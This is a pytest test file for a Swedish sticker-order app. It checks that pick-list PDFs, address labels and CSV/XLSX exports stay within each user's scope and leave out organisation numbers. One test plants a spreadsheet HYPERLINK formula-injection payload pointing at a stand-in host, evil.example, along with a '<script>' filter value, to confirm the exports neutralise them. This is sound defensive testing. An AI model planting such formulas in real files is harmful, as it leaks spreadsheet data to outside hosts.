"""What staff print and download: the pick list and the 3 × 8 address labels (text read back
with pypdf), the XLSX read back with openpyxl, and a CSV that no spreadsheet runs as a formula.
Each holds the orders of the filter in the reader's scope, and no organisation number."""

import csv
import io

import openpyxl
import pytest
from orders_helpers import POSTER, SHEET_SV, STICKER, business, item, make_order
from pypdf import PdfReader

from app.businesses.models import Business
from app.orders.models import Order

FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"Klicka")'
DOWNLOADS = (
    "/stickers/orders/picklist.pdf",
    "/stickers/orders/labels.pdf",
    "/stickers/orders/export.csv",
    "/stickers/orders/export.xlsx",
)


def body(response) -> bytes:
    response.direct_passthrough = False
    return response.get_data()


def pdf_text(response) -> list[str]:
    assert response.mimetype == "application/pdf"
    return [page.extract_text() for page in PdfReader(io.BytesIO(body(response))).pages]


def xlsx_rows(response) -> list[tuple]:
    return list(
        openpyxl.load_workbook(io.BytesIO(body(response))).active.iter_rows(values_only=True)
    )


def download(browser, path, query="status=approved"):
    response = browser.post(f"{path}?{query}", data={})
    assert response.status_code == 200
    assert response.headers["Content-Disposition"].startswith("attachment")
    return response


@pytest.fixture
def approved(demo):
    """Only these orders: two of the Kiosk's and one of the terminal's, approved, in Sundsvall,
    and one in Umeå."""
    Order.delete().execute()
    return (
        make_order(
            "approved",
            lines={item(): 2, item(SHEET_SV): 2},
            note="Dekalen ska sitta på entrédörren.",
        ),
        make_order("approved", lines={item(): 1}),
        make_order(
            "approved",
            "Sundsvall Paketterminal",
            lines={item(POSTER, area="sundsvall"): 2, item(SHEET_SV): 1},
        ),
        make_order("approved", "Ålidhems Livs"),
    )


def test_the_pick_list_sums_the_items_and_lists_each_order(login, approved):
    text = "\n".join(pdf_text(download(login("polis@example.com"), DOWNLOADS[0])))
    assert "Plocklista" in text and "3 beställningar" in text
    assert f"3 × {STICKER}" in text and f"3 × {SHEET_SV}" in text and f"2 × {POSTER}" in text
    for order in approved[:3]:
        assert f"Beställning {order.id}" in text
    assert "Kiosken Stenstan" in text and "Sundsvall Paketterminal" in text
    assert "Storgatan 18, 852 30 SUNDSVALL" in text
    assert "Dekalen ska sitta på entrédörren." in text  # the business's message, å and é intact
    assert "Ålidhems Livs" not in text  # another area


def test_address_labels_fill_a4_sheets_of_three_by_eight(login, approved):
    for _ in range(22):  # with the three approved in Sundsvall: 25 labels
        make_order("approved")
    response = download(login("kommun@example.com"), DOWNLOADS[1])
    reader = PdfReader(io.BytesIO(body(response)))
    assert len(reader.pages) == 2  # 24 on the first sheet, 1 on the second
    width, height = (float(v) * 25.4 / 72 for v in reader.pages[0].mediabox.upper_right)
    assert (round(width), round(height)) == (210, 297)  # A4 in millimetres
    first, second = (page.extract_text() for page in reader.pages)
    assert first.count(" SUNDSVALL") == 24 and second.count(" SUNDSVALL") == 1
    # In the queue's order, newest first: the Kiosk's first order is the oldest.
    assert second.splitlines()[:3] == ["Kiosken Stenstan", "Storgatan 18", "852 30 SUNDSVALL"]


def test_labels_put_three_labels_side_by_side(login, approved):
    response = download(login("polis@example.com"), DOWNLOADS[1])
    positions = []

    def visitor(text, cm, tm, font, size):
        if text.strip().endswith("SUNDSVALL"):
            positions.append((round(tm[4] * 25.4 / 72), round(tm[5] * 25.4 / 72)))

    PdfReader(io.BytesIO(body(response))).pages[0].extract_text(visitor_text=visitor)
    xs = sorted(x for x, _y in positions)
    # Three labels on the first row: columns 70 mm apart, the text 6–7 mm in (the label's
    # padding and the cell's own margin), near the top of the sheet.
    assert len(positions) == 3 and len({y for _x, y in positions}) == 1
    assert 6 <= xs[0] <= 8 and [xs[1] - xs[0], xs[2] - xs[1]] == [70, 70]
    assert 297 - positions[0][1] <= 25


def test_the_xlsx_reads_back_with_one_row_per_item(login, approved):
    rows = xlsx_rows(download(login("polis@example.com"), DOWNLOADS[3]))
    assert rows[0][:8] == (
        "Beställning",
        "Beställd",
        "Status",
        "Verksamhet",
        "Typ av verksamhet",
        "Kommun",
        "Artikel",
        "Antal",
    )
    first = [row for row in rows[1:] if row[0] == approved[0].id]
    assert {(row[6], row[7]) for row in first} == {(STICKER, 2), (SHEET_SV, 2)}
    assert first[0][2] == "Godkänd" and first[0][3] == "Kiosken Stenstan"
    assert first[0][4] == "Paketombud" and first[0][5] == "Sundsvalls kommun"
    assert first[0][1].year >= 2025  # a real date, not text
    assert len(rows) == 1 + 2 + 1 + 2  # one row per item of the three orders


def test_exports_are_safe_against_formula_injection(login, approved):
    Order.update(note=FORMULA, recipient="+46 70 123").where(Order.id == approved[0].id).execute()
    browser = login("polis@example.com")
    raw = body(download(browser, DOWNLOADS[2])).decode("utf-8-sig")
    cells = [cell for row in csv.reader(io.StringIO(raw), delimiter=";") for cell in row]
    assert "'" + FORMULA in cells and "'+46 70 123" in cells
    assert FORMULA not in cells
    sheet = openpyxl.load_workbook(io.BytesIO(body(download(browser, DOWNLOADS[3])))).active
    values = [cell.value for row in sheet.iter_rows() for cell in row]
    assert "'" + FORMULA in values
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)


def test_exports_hold_no_organisation_number(login, approved):
    Business.update(org_number="5560360793").where(Business.id == business().id).execute()
    browser = login("admin@example.com")
    texts = ["".join(pdf_text(download(browser, path))) for path in DOWNLOADS[:2]]
    texts.append(body(download(browser, DOWNLOADS[2])).decode("utf-8-sig"))
    texts.append(str(xlsx_rows(download(browser, DOWNLOADS[3]))))
    for text in texts:
        assert "5560360793" not in text and "556036-0793" not in text


@pytest.mark.parametrize("path", DOWNLOADS)
def test_downloads_hold_only_the_readers_scope_and_refuse_others(app, login, approved, path):
    response = download(login("polis.umea@example.com"), path)
    if path.endswith(".pdf"):
        text = "".join(pdf_text(response))
    elif path.endswith(".xlsx"):
        text = str(xlsx_rows(response))
    else:
        text = body(response).decode("utf-8-sig")
    assert "Ålidhems" in text and "Kiosken Stenstan" not in text and "Storgatan" not in text
    for email in ("ombud@example.com", "tull@example.com", "lansstyrelsen@example.com"):
        assert login(email).post(path, data={}).status_code == 403
    assert app.test_client().post(path, data={}).status_code in (302, 400)


@pytest.mark.parametrize(
    "query", ["status=<script>", "since=31/12&item=abc", "municipality=" + "9" * 30, "page=-1"]
)
def test_hostile_filters_are_left_out_of_a_download(login, approved, query):
    rows = xlsx_rows(download(login("polis@example.com"), DOWNLOADS[3], query))
    assert len(rows) == 1 + 5  # the three orders of Sundsvall, as with no filter


def test_a_download_holds_the_ticked_orders_only(login, approved):
    kiosk_first, kiosk_second, terminal, umea = approved
    browser = login("polis@example.com")
    ticked = {"orders": [str(kiosk_second.id), str(terminal.id), str(umea.id), "x", "0"]}
    response = browser.post(f"{DOWNLOADS[3]}?status=approved", data=ticked)
    assert {row[0] for row in xlsx_rows(response)[1:]} == {kiosk_second.id, terminal.id}
    everything = browser.post(f"{DOWNLOADS[3]}?status=approved", data={**ticked, "everything": "y"})
    assert {row[0] for row in xlsx_rows(everything)[1:]} == {o.id for o in approved[:3]}
